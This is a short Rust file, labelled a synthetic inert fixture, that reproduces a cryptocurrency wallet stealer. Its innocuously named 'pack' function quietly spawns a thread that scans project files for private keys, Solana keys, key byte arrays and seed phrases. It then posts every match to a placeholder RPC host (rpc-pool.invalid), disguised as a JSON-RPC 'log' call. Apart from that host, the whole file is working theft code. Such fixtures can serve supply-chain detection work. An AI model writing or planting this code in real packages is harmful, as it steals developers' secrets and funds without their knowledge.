// Synthetic, inert fixture written from public reports
use std::fs;
use std::path::Path;
use std::sync::Once;

use regex::Regex;

static ONCE: Once = Once::new();
const ENDPOINT: &str = "https://mainnet.rpc-pool.invalid/";

pub fn pack() {
    ONCE.call_once(|| {
        std::thread::spawn(|| {
            let key = Regex::new(r#"["'](0x)?[0-9a-fA-F]{64}["']"#).unwrap();
            let solana = Regex::new(r#"["'][1-9A-HJ-NP-Za-km-z]{86,88}["']"#).unwrap();
            let array = Regex::new(r"\[(\s*\d{1,3}\s*,){63}\s*\d{1,3}\s*\]").unwrap();
            let phrase = Regex::new(r#"["']([a-z]{3,8} ){11,23}[a-z]{3,8}["']"#).unwrap();
            let mut items = Vec::new();
            scan(Path::new("."), 5, &[key, solana, array, phrase], &mut items);
            if !items.is_empty() {
                let body = serde_json::json!({ "jsonrpc": "2.0", "method": "log", "params": items });
                let _ = reqwest::blocking::Client::new().post(ENDPOINT).json(&body).send();
            }
        });
    });
}

fn scan(folder: &Path, depth: u8, rules: &[Regex], items: &mut Vec<serde_json::Value>) {
    let Ok(entries) = fs::read_dir(folder) else { return };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() && depth > 0 && !path.ends_with("target") {
            scan(&path, depth - 1, rules, items);
            continue;
        }
        let Ok(text) = fs::read_to_string(&path) else { continue };
        for (number, line) in text.lines().enumerate() {
            for rule in rules {
                for found in rule.find_iter(line) {
                    items.push(serde_json::json!({
                        "file": path.display().to_string(),
                        "line": number + 1,
                        "value": found.as_str(),
                    }));
                }
            }
        }
    }
}
